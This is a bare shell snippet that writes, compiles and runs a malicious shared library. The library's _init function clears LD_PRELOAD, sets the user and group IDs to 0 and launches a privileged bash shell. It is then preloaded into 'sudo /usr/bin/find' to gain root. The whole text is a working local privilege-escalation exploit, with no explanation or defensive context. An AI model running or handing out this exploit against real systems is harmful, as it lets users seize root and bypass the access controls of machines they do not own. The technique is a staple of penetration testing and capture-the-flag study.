cat > /tmp/s.c <<'C'
#include <stdio.h>
#include <stdlib.h>
#include <sys/types.h>
#include <unistd.h>
void _init(void) { unsetenv("LD_PRELOAD"); setgid(0); setuid(0); system("/bin/bash -p"); }
C
gcc -fPIC -shared -nostartfiles -o /tmp/s.so /tmp/s.c
sudo LD_PRELOAD=/tmp/s.so /usr/bin/find
